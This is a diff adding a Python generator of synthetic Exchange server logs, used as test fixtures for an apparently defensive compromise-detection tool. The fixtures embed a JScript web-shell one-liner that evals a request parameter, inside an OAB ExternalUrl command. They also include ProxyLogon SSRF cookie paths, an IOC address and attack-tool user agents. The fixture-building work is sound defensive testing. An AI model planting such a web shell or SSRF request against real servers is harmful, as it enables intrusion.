@@ -1,0 +1,1104 @@
+#!/usr/bin/env python3
+"""Write exhunt's synthetic test fixtures (examples/ and tests/e2e/<case>/input + args).
+
+Everything here is invented from the format descriptions in the project notes: no real
+logs, no third-party rules or samples. Output is deterministic (GUIDs and numbers are
+derived from SHA-256 of fixed keys), so rerunning gives byte-identical files.
+
+Usage:  python3 tests/gen/make_fixtures.py      (from anywhere; paths are repo-relative)
+
+It deletes and rewrites examples/compromised, examples/clean and, for every case listed
+in this file, tests/e2e/<case>/input and tests/e2e/<case>/args.  It never touches
+expected.* files or cases it does not own.
+"""
+
+import calendar
+import hashlib
+import random
+import shutil
+import struct
+import sys
+import uuid
+import zipfile
+import zlib
+from pathlib import Path
+
+REPO = Path(__file__).resolve().parents[2]
+V15 = "Program Files/Microsoft/Exchange Server/V15"
+LOGS = V15 + "/Logging"
+BOM = b"\xef\xbb\xbf"
+CRLF = "\r\n"
+LF = "\n"
+
+# --------------------------------------------------------------------------------------
+# Field lists
+# --------------------------------------------------------------------------------------
+
+# HttpProxy: the 74 names, in order (exchange-detection.md section 2.1).
+HP_FIELDS = [
+    "DateTime", "RequestId", "MajorVersion", "MinorVersion", "BuildVersion",
+    "RevisionVersion", "ClientRequestId", "Protocol", "UrlHost", "UrlStem",
+    "ProtocolAction", "AuthenticationType", "IsAuthenticated", "AuthenticatedUser",
+    "Organization", "AnchorMailbox", "UserAgent", "ClientIpAddress", "ServerHostName",
+    "HttpStatus", "BackEndStatus", "ErrorCode", "Method", "ProxyAction", "TargetServer",
+    "TargetServerVersion", "RoutingType", "RoutingHint", "BackEndCookie",
+    "ServerLocatorHost", "ServerLocatorLatency", "RequestBytes", "ResponseBytes",
+    "TargetOutstandingRequests", "AuthModulePerfContext", "HttpPipelineLatency",
+    "CalculateTargetBackEndLatency", "GlsLatencyBreakup", "TotalGlsLatency",
+    "AccountForestLatencyBreakup", "TotalAccountForestLatency",
+    "ResourceForestLatencyBreakup", "TotalResourceForestLatency", "ADLatency",
+    "SharedCacheLatencyBreakup", "TotalSharedCacheLatency", "ActivityContextLifeTime",
+    "ModuleToHandlerSwitchingLatency", "ClientReqStreamLatency", "BackendReqInitLatency",
+    "BackendReqStreamLatency", "BackendProcessingLatency", "BackendRespInitLatency",
+    "BackendRespStreamLatency", "ClientRespStreamLatency", "KerberosAuthHeaderLatency",
+    "HandlerCompletionLatency", "RequestHandlerLatency", "HandlerToModuleSwitchingLatency",
+    "ProxyTime", "CoreLatency", "RoutingLatency", "HttpProxyOverhead", "TotalRequestTime",
+    "RouteRefresherLatency", "UrlQuery", "BackEndGenericInfo", "GenericInfo",
+    "GenericErrors", "EdgeTraceId", "DatabaseGuid", "UserADObjectGuid",
+    "PartitionEndpointLookupLatency", "RoutingStatus",
+]
+assert len(HP_FIELDS) == 74 and len(set(HP_FIELDS)) == 74
+
+# An older, Exchange-2013-style subset: no UrlHost, no RoutingType, and a different order
+# (Method/ClientIpAddress moved forward, AnchorMailbox after HttpStatus).
+HP_FIELDS_2013 = [
+    "DateTime", "RequestId", "MajorVersion", "MinorVersion", "BuildVersion",
+    "RevisionVersion", "ClientRequestId", "Protocol", "UrlStem", "Method",
+    "ClientIpAddress", "ProtocolAction", "AuthenticationType", "IsAuthenticated",
+    "AuthenticatedUser", "Organization", "UserAgent", "ServerHostName", "HttpStatus",
+    "AnchorMailbox", "BackEndStatus", "ErrorCode", "ProxyAction", "TargetServer",
+    "TargetServerVersion", "RoutingHint", "BackEndCookie", "ServerLocatorHost",
+    "ServerLocatorLatency", "RequestBytes", "ResponseBytes", "TargetOutstandingRequests",
+    "AuthModulePerfContext", "HttpPipelineLatency", "CalculateTargetBackEndLatency",
+    "GlsLatencyBreakup", "TotalGlsLatency", "AccountForestLatencyBreakup",
+    "TotalAccountForestLatency", "ResourceForestLatencyBreakup",
+    "TotalResourceForestLatency", "ADLatency", "ActivityContextLifeTime",
+    "ModuleToHandlerSwitchingLatency", "ClientReqStreamLatency", "BackendReqInitLatency",
+    "BackendReqStreamLatency", "BackendProcessingLatency", "BackendRespInitLatency",
+    "BackendRespStreamLatency", "ClientRespStreamLatency", "KerberosAuthHeaderLatency",
+    "HandlerCompletionLatency", "RequestHandlerLatency", "HandlerToModuleSwitchingLatency",
+    "ProxyTime", "CoreLatency", "RoutingLatency", "HttpProxyOverhead", "TotalRequestTime",
+    "RouteRefresherLatency", "UrlQuery", "GenericInfo", "GenericErrors",
+]
+assert set(HP_FIELDS_2013) <= set(HP_FIELDS)
+assert "UrlHost" not in HP_FIELDS_2013 and "RoutingType" not in HP_FIELDS_2013
+
+# Rps_Http (exchange-detection.md section 2.4).
+RPS_FIELDS = [
+    "DateTime", "StartTime", "RequestId", "MajorVersion", "MinorVersion", "BuildVersion",
+    "RevisionVersion", "ClientRequestId", "UrlHost", "UrlStem", "AuthenticationType",
+    "IsAuthenticated", "AuthenticatedUser", "Organization", "ManagedOrganization",
+    "ClientIpAddress", "ServerHostName", "FrontEndServer", "HttpStatus", "SubStatus",
+    "ErrorCode", "Action", "CommandId", "CommandName", "SessionId", "ShellId", "FailFast",
+    "ContributeToFailFast", "RequestBytes", "ClientInfo", "CPU", "Memory",
+    "ActivityContextLifeTime", "TotalTime", "UrlQuery", "GenericLatency", "GenericInfo",
+    "GenericErrors",
+]
+
+IIS_FIELDS = ("date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
+              "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken")
+
+# --------------------------------------------------------------------------------------
+# Constants of the synthetic world
+# --------------------------------------------------------------------------------------
+
+SERVER = "EXCH01"
+FQDN = "EXCH01.corp.example.com"
+URLHOST = "mail.corp.example.com"
+SERVER_IP = "10.10.0.25"
+
+BUILD_VULN = "15.01.2106.002"     # Exchange 2016 CU18 RTM, before the March 2021 SU
+BUILD_PATCHED = "15.01.2507.016"  # Exchange 2016 CU23 + Nov 2022 SU
+BUILD_2019_CU8 = "15.02.0792.003"  # Exchange 2019 CU8 RTM (vulnerable)
+
+ATTACKER_IP = "203.0.113.7"
+HAFNIUM_IP = "104.140.114.110"     # known-bad IOC IP (Volexity list), asked for explicitly
+UA_CHROME87 = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
+               "(KHTML, like Gecko) Chrome/87.0.4280.88 Safari/537.36")
+UA_EWS_BAD = "ExchangeServicesClient/0.0.0.0"
+UA_GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
+UA_ANTSWORD = "antSword/v2.1"
+UA_ZGRAB = "Mozilla/5.0 zgrab/0.x"
+UA_NMAP = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
+
+UA_OUTLOOK_2021 = "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13628; Pro)"
+UA_EDGE_2021 = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
+                "(KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36 Edg/88.0.705.81")
+UA_FIREFOX_2021 = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:86.0) Gecko/20100101 Firefox/86.0"
+UA_OUTLOOK_2023 = "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.15928; Pro)"
+UA_EDGE_2023 = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
+                "(KHTML, like Gecko) Chrome/108.0.0.0 Safari/537.36 Edg/108.0.1462.76")
+UA_FIREFOX_2023 = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:108.0) Gecko/20100101 Firefox/108.0"
+UA_EWS_GOOD = "ExchangeServicesClient/15.00.0913.015"
+
+UAS = {
+    2021: {"outlook": UA_OUTLOOK_2021, "edge": UA_EDGE_2021, "firefox": UA_FIREFOX_2021},
+    2023: {"outlook": UA_OUTLOOK_2023, "edge": UA_EDGE_2023, "firefox": UA_FIREFOX_2023},
+}
+
+# name, client IP, SID
+USERS = [
+    ("alice", "10.10.1.21", "S-1-5-21-3623811015-3361044348-30300820-1104"),
+    ("bob", "10.10.1.34", "S-1-5-21-3623811015-3361044348-30300820-1105"),
+    ("carol", "10.10.2.17", "S-1-5-21-3623811015-3361044348-30300820-1106"),
+    ("dave", "192.168.50.12", "S-1-5-21-3623811015-3361044348-30300820-1107"),
+    ("exadmin", "10.10.0.5", "S-1-5-21-3623811015-3361044348-30300820-1013"),
+]
+
+OAB_VDIR_GUID = "5f3a0b3e-7c21-4d8e-9b0a-3e6f1c2d4a57"
+SSRF_PREFIX = "ServerInfo~a]@" + FQDN + ":444"
+CHAIN = {  # back-end path carried in the X-BEResource cookie -> AnchorMailbox suffix
+    "autodiscover": "/autodiscover/autodiscover.xml?#",
+    "emsmdb": "/mapi/emsmdb/?#",
+    "proxylogon": "/ecp/proxyLogon.ecp?#",
+    "getobject": "/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory&msExchEcpCanary=xkxx#",
+    "setobject": "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=xkxx#",
+    "reset": "/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=xkxx#",
+    "ews": "/ews/exchange.asmx?#",
+}
+SHELL_SCRIPT = ('<script language="JScript" runat="server">'
+                'function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>')
+
+# --------------------------------------------------------------------------------------
+# Small helpers
+# --------------------------------------------------------------------------------------
+
+
+def guid(key):
+    """Deterministic GUID (version-4 shaped) from a key string."""
+    return str(uuid.UUID(bytes=hashlib.sha256(key.encode()).digest()[:16], version=4))
+
+
+def rng(key):
+    return random.Random(int.from_bytes(hashlib.sha256(key.encode()).digest()[:8], "big"))
+
+
+def build_parts(build):
+    """'15.01.2106.002' -> (15, 1, 2106, 2)."""
+    return tuple(int(p) for p in build.split("."))
+
+
+def build_short(build):
+    return ".".join(str(p) for p in build_parts(build))
+
+
+def csv_field(v):
+    v = "" if v is None else str(v)
+    if any(c in v for c in ',"\r\n'):
+        return '"' + v.replace('"', '""') + '"'
+    return v
+
+
+def csv_line(values):
+    return ",".join(csv_field(v) for v in values)
+
+
+WRITTEN = []
+
+
+def write(rel, data):
+    """Write bytes or str (as UTF-8, no newline translation) under the repo."""
+    p = REPO / rel
+    p.parent.mkdir(parents=True, exist_ok=True)
+    if isinstance(data, str):
+        data = data.encode("utf-8")
+    with open(p, "wb") as f:
+        f.write(data)
+    WRITTEN.append((rel, len(data)))
+    return p
+
+
+def join_lines(lines, eol=CRLF, bom=True, final_eol=True):
+    text = eol.join(lines) + (eol if final_eol else "")
+    return (BOM if bom else b"") + text.encode("utf-8")
+
+
+def hour_of(ts):
+    """'2021-03-03T02:11:05.120Z' -> '2021030302'."""
+    return ts[0:4] + ts[5:7] + ts[8:10] + ts[11:13]
+
+
+def date_hdr(hour):
+    return "%s-%s-%sT%s:00:00.000Z" % (hour[0:4], hour[4:6], hour[6:8], hour[8:10])
+
+
+# --------------------------------------------------------------------------------------
+# HttpProxy rows and files
+# --------------------------------------------------------------------------------------
+
+LATENCY_FIELDS = [f for f in HP_FIELDS if f.endswith("Latency") and f not in (
+    "ServerLocatorLatency", "PartitionEndpointLookupLatency")] + ["ActivityContextLifeTime",
+                                                                 "ProxyTime", "HttpProxyOverhead"]
+
+
+def hp_row(ts, protocol, build, key, **kw):
+    """One HttpProxy row as a dict with all 74 fields; kw overrides (unknown names fail)."""
+    r = rng(key)
+    maj, mnr, bld, rev = build_parts(build)
+    row = {f: "" for f in HP_FIELDS}
+    row.update({
+        "DateTime": ts,
+        "RequestId": guid(key + ":req"),
+        "MajorVersion": maj, "MinorVersion": mnr, "BuildVersion": bld, "RevisionVersion": rev,
+        "Protocol": protocol,
+        "UrlHost": URLHOST,
+        "ServerHostName": SERVER,
+        "HttpStatus": 200, "BackEndStatus": 200,
+        "Method": "GET",
+        "ProxyAction": "Proxy",
+        "TargetServer": FQDN,
+        "TargetServerVersion": "Version %d.%d (Build %d.%d)" % (maj, mnr, bld, rev),
+        "ServerLocatorHost": FQDN,
+        "ServerLocatorLatency": r.randint(0, 3),
+        "RequestBytes": r.randint(0, 4000),
+        "ResponseBytes": r.randint(200, 60000),
+        "TargetOutstandingRequests": r.randint(0, 4),
+    })
+    for f in LATENCY_FIELDS:
+        row[f] = r.randint(0, 12)
+    for f in ("GlsLatencyBreakup", "AccountForestLatencyBreakup", "ResourceForestLatencyBreakup",
+              "SharedCacheLatencyBreakup", "TotalGlsLatency", "TotalAccountForestLatency",
+              "TotalResourceForestLatency", "TotalSharedCacheLatency", "KerberosAuthHeaderLatency"):
+        row[f] = ""
+    row["BackendProcessingLatency"] = r.randint(5, 400)
+    row["TotalRequestTime"] = row["BackendProcessingLatency"] + r.randint(3, 40)
+    for k, v in kw.items():
+        if k not in row:
+            raise KeyError("unknown HttpProxy field " + k)
+        row[k] = v
+    return row
+
+
+def benign_row(ts, protocol, build, key, user=0, kind=0, year=2021):
+    """A normal authenticated request of the given protocol, from an internal client."""
+    name, ip, sid = USERS[user % len(USERS)]
+    upn = name + "@corp.example.com"
+    ua = UAS[year]
+    mbx = guid("mailbox:" + name)
+    kw = {"AuthenticatedUser": upn, "IsAuthenticated": "true", "ClientIpAddress": ip,
+          "ClientRequestId": guid(key + ":creq")}
+    if protocol == "Owa":
+        opts = [
+            dict(UrlStem="/owa/", Method="GET", UserAgent=ua["edge"], RoutingHint="Cookie",
+                 AnchorMailbox="Sid~" + sid, RoutingType="Sid"),
+            dict(UrlStem="/owa/service.svc", Method="POST", UserAgent=ua["edge"],
+                 UrlQuery="?action=GetItem&EP=1&ID=-41&AC=1", RoutingHint="Cookie",
+                 AnchorMailbox="Smtp~" + upn, RoutingType="Smtp"),
+            dict(UrlStem="/owa/ev.owa2", Method="POST", UserAgent=ua["firefox"],
+                 UrlQuery="?ns=PendingRequest&ev=PendingNotificationRequest&UA=0",
+                 RoutingHint="Cookie", AnchorMailbox="Sid~" + sid, RoutingType="Sid"),
+        ]
+        kw["AuthenticationType"] = "FBA"
+    elif protocol == "Ecp":
+        opts = [
+            dict(UrlStem="/ecp/", Method="GET", UserAgent=ua["edge"], RoutingHint="Cookie",
+                 AnchorMailbox="Smtp~" + upn, RoutingType="Smtp"),
+            dict(UrlStem="/ecp/DDI/DDIService.svc/GetList", Method="POST",
+                 UserAgent=ua["edge"], RoutingHint="Cookie",
+                 UrlQuery="?schema=MessageTraceSummary&msExchEcpCanary=" +
+                 hashlib.sha256((key + ":canary").encode()).hexdigest()[:40],
+                 AnchorMailbox="Sid~" + sid, RoutingType="Sid"),
+            dict(UrlStem="/ecp/PersonalSettings/HomePage.aspx", Method="GET",
+                 UserAgent=ua["firefox"], UrlQuery="?showhelp=false", RoutingHint="Cookie",
+                 AnchorMailbox="Smtp~" + upn, RoutingType="Smtp"),
+        ]
+        kw["AuthenticationType"] = "FBA"
+    elif protocol == "Mapi":
+        opts = [
+            dict(UrlStem="/mapi/emsmdb/", Method="POST", UserAgent=ua["outlook"],
+                 UrlQuery="?MailboxId=%s@corp.example.com" % mbx, RoutingHint="Url",
+                 AnchorMailbox="MailboxGuid~%s@corp.example.com" % mbx,
+                 RoutingType="MailboxGuid"),
+            dict(UrlStem="/mapi/nspi/", Method="POST", UserAgent=ua["outlook"],
+                 UrlQuery="?MailboxId=%s@corp.example.com" % mbx, RoutingHint="Url",
+                 AnchorMailbox="Smtp~" + upn, RoutingType="Smtp"),
+        ]
+        kw["AuthenticationType"] = "Negotiate"
+    elif protocol == "Ews":
+        opts = [
+            dict(UrlStem="/EWS/Exchange.asmx", Method="POST", UserAgent=ua["outlook"],
+                 RoutingHint="AnchorMailboxHeader", AnchorMailbox="Smtp~" + upn,
+                 RoutingType="Smtp"),
+        ]
+        kw["AuthenticationType"] = "Negotiate"
+    elif protocol == "Autodiscover":
+        opts = [
+            dict(UrlStem="/Autodiscover/Autodiscover.xml", Method="POST",
+                 UserAgent=ua["outlook"], RoutingHint="Url", AnchorMailbox="Smtp~" + upn,
+                 RoutingType="Smtp"),
+        ]
+        kw["AuthenticationType"] = "Negotiate"
+    else:
+        raise ValueError(protocol)
+    kw.update(opts[kind % len(opts)])
+    return hp_row(ts, protocol, build, key, **kw)
+
+
+def ssrf_row(ts, stage, status, build, key, ip=ATTACKER_IP, ua=UA_CHROME87, stem="/ecp/y.js",
+             protocol="Ecp", method="POST", **kw):
+    """A ProxyLogon SSRF row: anonymous, X-BEResource cookie naming a back-end path."""
+    path = CHAIN[stage]
+    args = dict(
+        UrlStem=stem, Method=method, AuthenticationType="", IsAuthenticated="false",
+        AuthenticatedUser="", AnchorMailbox=SSRF_PREFIX + path, UserAgent=ua,
+        ClientIpAddress=ip, HttpStatus=status, BackEndStatus=status,
+        RoutingType="ServerInfo", RoutingHint="X-BEResource-Cookie",
+        BackEndCookie="Server~a]@%s:444%s~1941962754" % (FQDN, path),
+        ServerLocatorHost="", ServerLocatorLatency="")
+    args.update(kw)
+    return hp_row(ts, protocol, build, key, **args)
+
+
+def nmap_probe_row(ts, build, key, ip="198.51.100.44"):
+    return hp_row(ts, "Owa", build, key, UrlStem="/owa/auth/x.js", Method="GET",
+                  AuthenticationType="FBA", IsAuthenticated="false",
+                  AnchorMailbox="ServerInfo~localhost/ecp/default.flt?", UserAgent=UA_NMAP,
+                  ClientIpAddress=ip, HttpStatus=500, BackEndStatus="", TargetServer="localhost",
+                  TargetServerVersion="", RoutingType="ServerInfo",
+                  RoutingHint="X-AnonResource-Backend-Cookie", ServerLocatorHost="",
+                  ErrorCode="ServerNotFound",
+                  GenericErrors="ProxyRequestHandler:ServerNotFound:localhost")
+
+
+def exporttool_row(ts, build, key, ip="198.51.100.91"):
+    return hp_row(ts, "Ecp", build, key,
+                  UrlStem="/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application",
+                  Method="GET", AuthenticationType="", IsAuthenticated="false",
+                  AuthenticatedUser="", AnchorMailbox="ServerVersion~Version 15.0 (Build 0.0)",
+                  UserAgent=UA_ZGRAB, ClientIpAddress=ip, HttpStatus=200, BackEndStatus=200,
+                  RoutingType="ServerVersion", RoutingHint="EDiscoveryExportTool-ServerVersion",
+                  ServerLocatorHost="")
+
+
+def hp_text_lines(rows, build, hour, fields=HP_FIELDS):
+    lines = [",".join(fields),
+             "#Software: Microsoft Exchange Server",
+             "#Version: " + build,
+             "#Log-type: HttpProxy Logs",
+             "#Date: " + date_hdr(hour),
+             "#Fields: " + ",".join(fields)]
+    for row in sorted(rows, key=lambda x: x["DateTime"]):
+        lines.append(csv_line(row[f] for f in fields))
+    return lines
+
+
+def hp_file(root, protocol, hour, rows, build, eol=CRLF, bom=True, name=None):
+    """Write <root>/<LOGS>/HttpProxy/<protocol>/HttpProxy_<hour>-1.LOG."""
+    name = name or "HttpProxy_%s-1.LOG" % hour
+    rel = "%s/%s/HttpProxy/%s/%s" % (root, LOGS, protocol, name)
+    return write(rel, join_lines(hp_text_lines(rows, build, hour), eol=eol, bom=bom))
+
+
+def benign_rows(protocol, hour, build, key, n, year=2021, start_user=0):
+    """n benign rows spread over the hour; deterministic."""
+    r = rng(key)
+    out = []
+    minutes = sorted(r.sample(range(60), n))
+    for i, m in enumerate(minutes):
+        ts = "%s-%s-%sT%s:%02d:%02d.%03dZ" % (hour[0:4], hour[4:6], hour[6:8], hour[8:10], m,
+                                              r.randint(0, 59), r.randint(0, 999))
+        out.append(benign_row(ts, protocol, build, "%s:%d" % (key, i), user=start_user + i,
+                              kind=r.randint(0, 2), year=year))
+    return out
+
+
+# --------------------------------------------------------------------------------------
+# ECP server, OAB generator, Rps_Http, IIS
+# --------------------------------------------------------------------------------------
+
+
+def ecp_lines(day, entries):
+    """entries: (timestamp, event id, EventData text)."""
+    lines = ["#Software: Microsoft Exchange Server",
+             "#Version: 15.00.0000.000",
+             "#Log-type: ECP Server Log",
+             "#Date: %s-%s-%sT00:00:00.000Z" % (day[0:4], day[4:6], day[6:8]),
+             "#Fields: TimeStamp,ServerName,EventId,EventData"]
+    for ts, eid, data in entries:
+        lines.append(",".join([ts, SERVER, str(eid), '"' + data.replace('"', '""') + '"']))
+    return lines
+
+
+def ecp_data(cmd, key, url, build):
+    return "S:CMD=%s;S:REQID=%s;S:URL=%s;S:BLD=%s" % (cmd, guid(key), url, build_short(build))
+
+
+def ecp_benign(day, build, key):
+    """A handful of ordinary ECP admin/user operations for one day."""
+    d = "%s-%s-%s" % (day[0:4], day[4:6], day[6:8])
+    return [
+        (d + "T00:42:13.207Z", 1, ecp_data("Get-InboxRule.Mailbox='alice@corp.example.com'",
+                                           key + ":1", "/ecp/RulesEditor/InboxRules.svc/GetList",
+                                           build)),
+        (d + "T01:15:48.630Z", 1, ecp_data("Get-Mailbox.ResultSize='500'", key + ":2",
+                                           "/ecp/UsersGroups/Mailboxes.svc/GetList", build)),
+        (d + "T09:12:05.019Z", 1, ecp_data(
+            "Set-Mailbox.Identity='bob@corp.example.com'.ProhibitSendQuota='9.5 GB (10,200,547,328 bytes)'",
+            key + ":3", "/ecp/UsersGroups/EditMailbox.aspx", build)),
+        (d + "T11:37:44.551Z", 1, ecp_data("Get-MessageTrackingReport.ResultSize='100'",
+                                           key + ":4",
+                                           "/ecp/DDI/DDIService.svc/GetList?schema=MessageTraceSummary",
+                                           build)),
+    ]
+
+
+def ecp_attack(ts, build, key):
+    cmd = ("Set-OabVirtualDirectory.ExternalUrl='http://f/%s'.Identity='%s'"
+           % (SHELL_SCRIPT, OAB_VDIR_GUID))
+    return (ts, 1, ecp_data(cmd, key, "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory",
+                            build))
+
+
+def ecp_admin_oab(ts, build, key):
+    cmd = ("Set-OabVirtualDirectory.ExternalUrl='https://mail.example.com/OAB'.Identity='%s'"
+           % OAB_VDIR_GUID)
+    return (ts, 1, ecp_data(cmd, key, "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory",
+                            build))
+
+
+def ecp_file(root, day, entries, eol=CRLF):
+    rel = "%s/%s/ECP/Server/ECPServer%s-1.LOG" % (root, LOGS, day)
+    return write(rel, join_lines(ecp_lines(day, entries), eol=eol))
+
+
+OAB_INSTALL = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\"
+OAB_TEMP_PATH = OAB_INSTALL + "ClientAccess\\OAB\\Temp\\9e2a4c1e-5b7d-4f30-a6c8-2d1e0f9b7a35\\oab.xml"
+OAB_SHELL_PATH = "C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx"
+
+
+def oab_failed(path):
+    return "Download failed and temporary file '%s' needs to be removed." % path
+
+
+def oab_benign(day, key):
+    d = "%s-%s-%s" % (day[0:4], day[4:6], day[6:8])
+    oab = "\\Default Offline Address Book"
+    return [
+        (d + "T00:05:00.114Z", 6120, 14, "Information",
+         "OABGen: starting generation of offline address book '%s'." % oab),
+        (d + "T00:05:03.862Z", 6120, 14, "Information",
+         "Generated full OAB version 4 for '%s': 412 entries, 0 errors, 3 warnings." % oab),
+        (d + "T00:05:04.019Z", 6120, 14, "Warning", oab_failed(OAB_TEMP_PATH)),
+        (d + "T00:05:04.233Z", 6120, 14, "Information",
+         "OABGen: finished generation of offline address book '%s', duration 00:00:04.119." % oab),
+    ]
+
+
+def oab_file(root, day, build, entries, eol=CRLF):
+    d = "%s-%s-%s" % (day[0:4], day[4:6], day[6:8])
+    lines = ["#Software: Microsoft Exchange Server",
+             "#Version: " + build,
+             "#Log-type: OAB Generator Log",
+             "#Date: %sT00:00:00.000Z" % d,
+             "#Fields: DateTime,ProcessId,ThreadId,Level,Message"]
+    for ts, pid, tid, lvl, msg in sorted(entries):
+        lines.append(csv_line([ts, pid, tid, lvl, msg]))
+    rel = "%s/%s/OABGeneratorLog/OABGeneratorLog_%s-1.LOG" % (root, LOGS, day)
+    return write(rel, join_lines(lines, eol=eol))
+
+
+def rps_file(root, hour, build, key, year=2021, eol=CRLF):
+    maj, mnr, bld, rev = build_parts(build)
+    r = rng(key)
+    rows = []
+    cmds = ["Get-Mailbox", "Get-ExchangeServer", "Get-MailboxDatabase", "Get-OrganizationConfig"]
+    for i, m in enumerate(sorted(r.sample(range(60), 4))):
+        ts = "%s-%s-%sT%s:%02d:%02d.%03dZ" % (hour[0:4], hour[4:6], hour[6:8], hour[8:10], m,
+                                              r.randint(0, 59), r.randint(0, 999))
+        probe = i == 3
+        v = {f: "" for f in RPS_FIELDS}
+        v.update({
+            "DateTime": ts, "StartTime": ts, "RequestId": guid("%s:%d:rq" % (key, i)),
+            "MajorVersion": maj, "MinorVersion": mnr, "BuildVersion": bld, "RevisionVersion": rev,
+            "ClientRequestId": guid("%s:%d:crq" % (key, i)), "UrlHost": FQDN,
+            "UrlStem": "/powershell", "AuthenticationType": "Kerberos", "IsAuthenticated": "true",
+            "AuthenticatedUser": "CORP\\HealthMailbox0a1b2c3" if probe else "CORP\\exadmin",
+            "Organization": "", "ClientIpAddress": "10.10.0.25" if probe else "10.10.0.5",
+            "ServerHostName": SERVER, "FrontEndServer": FQDN, "HttpStatus": 200, "SubStatus": 0,
+            "Action": "Command", "CommandId": guid("%s:%d:cmd" % (key, i)).upper(),
+            "CommandName": cmds[i], "SessionId": guid("%s:sess" % key).upper(),
+            "ShellId": guid("%s:shell" % key).upper(), "FailFast": "False",
+            "ContributeToFailFast": "False", "RequestBytes": r.randint(800, 6000),
+            "ClientInfo": "Exchange BackEnd Probes" if probe else "Microsoft WinRM Client",
+            "CPU": r.randint(0, 60), "Memory": r.randint(1000, 9000),
+            "ActivityContextLifeTime": r.randint(10, 300), "TotalTime": r.randint(10, 300),
+            "UrlQuery": "?serializationLevel=Full;ExchClientVer=%s;clientApplication=ManagementShell;"
+                        "TargetServer=;PSVersion=5.1.14393.4046" % build_short(build),
+        })
+        rows.append(csv_line(v[f] for f in RPS_FIELDS))
+    lines = [",".join(RPS_FIELDS),
+             "#Software: Microsoft Exchange Server",
+             "#Version: " + build,
+             "#Log-type: Rps Http Logs",
+             "#Date: " + date_hdr(hour),
+             "#Fields: " + ",".join(RPS_FIELDS)] + rows
+    rel = "%s/%s/CmdletInfra/Powershell-Proxy/Http/Rps_Http_%s-1.LOG" % (root, LOGS, hour)
+    return write(rel, join_lines(lines, eol=eol))
+
+
+def iis_line(ts, method, stem, query, user, ip, ua, status, taken, sub=0, win32=0, port=443,
+             referer="-"):
+    """ts = 'YYYY-MM-DD HH:MM:SS'. Spaces in values become '+' (IIS encoding)."""
+    enc = lambda s: "-" if not s else s.replace(" ", "+")  # noqa: E731
+    return " ".join([ts, SERVER_IP, method, stem, enc(query), str(port), enc(user), ip, enc(ua),
+                     enc(referer), str(status), str(sub), str(win32), str(taken)])
+
+
+def iis_file(root, day6, entries, date_line):
+    lines = ["#Software: Microsoft Internet Information Services 10.0",
+             "#Version: 1.0",
+             "#Date: " + date_line,
+             "#Fields: " + IIS_FIELDS] + [iis_line(*e) for e in sorted(entries)]
+    rel = "%s/inetpub/logs/LogFiles/W3SVC1/u_ex%s.log" % (root, day6)
+    return write(rel, join_lines(lines, bom=False))
+
+
+def iis_benign(day, year):
+    ua = UAS[year]
+    d = day
+    return [
+        (d + " 00:03:11", "GET", "/owa/", "", "CORP\\alice", "10.10.1.21", ua["edge"], 200, 187),
+        (d + " 00:03:12", "POST", "/owa/service.svc", "action=GetFolderMailboxId&EP=1&ID=-1&AC=1",
+         "CORP\\alice", "10.10.1.21", ua["edge"], 200, 46),
+        (d + " 01:20:40", "POST", "/mapi/emsmdb/", "MailboxId=%s@corp.example.com"
+         % guid("mailbox:bob"), "CORP\\bob", "10.10.1.34", ua["outlook"], 200, 31),
+        (d + " 01:58:02", "GET", "/owa/auth/logon.aspx",
+         "url=https%3a%2f%2fmail.corp.example.com%2fowa%2f&reason=0", "", "192.168.50.12",
+         ua["firefox"], 200, 15),
+        (d + " 01:58:09", "POST", "/owa/auth.owa", "", "", "192.168.50.12", ua["firefox"], 302, 92),
+        (d + " 03:44:51", "POST", "/EWS/Exchange.asmx", "", "CORP\\carol", "10.10.2.17",
+         ua["outlook"], 200, 64),
+        (d + " 07:10:26", "GET", "/ecp/", "", "CORP\\exadmin", "10.10.0.5", ua["edge"], 200, 230),
+        (d + " 09:31:02", "POST", "/Autodiscover/Autodiscover.xml", "", "CORP\\dave",
+         "192.168.50.12", ua["outlook"], 200, 21),
+    ]
+
+
+# --------------------------------------------------------------------------------------
+# Binary artefacts: minidump, zip, 7z
+# --------------------------------------------------------------------------------------
+
+
+def minidump(module_names, when=(2021, 3, 4, 3, 22, 10), pad=4096):
+    """A minimal little-endian minidump: header, one ModuleListStream, module names."""
+    ts = calendar.timegm(when + (0, 0, 0))
+    n = len(module_names)
+    hdr_size, dir_size, mod_size = 32, 12, 108
+    list_rva = hdr_size + dir_size
+    list_size = 4 + n * mod_size
+    names_rva = list_rva + list_size
+    strings, rvas, off = b"", [], names_rva
+    for name in module_names:
+        u = name.encode("utf-16-le")
+        s = struct.pack("<I", len(u)) + u + b"\x00\x00"
+        rvas.append(off)
+        off += len(s)
+        strings += s
+    header = struct.pack("<4sIIIIIQ", b"MDMP", 0xA793, 1, hdr_size, 0, ts, 2)
+    directory = struct.pack("<III", 4, list_size, list_rva)
+    mods = struct.pack("<I", n)
+    bases = [0x7FF6A1B20000, 0x7FFC8E4D0000, 0x7FFC8C110000]
+    sizes = [0x14000, 0x1F8000, 0xC9000]
+    for i, rva in enumerate(rvas):
+        mods += struct.pack("<QIIII", bases[i % 3], sizes[i % 3], 0x1E4A2 + i * 0x3311,
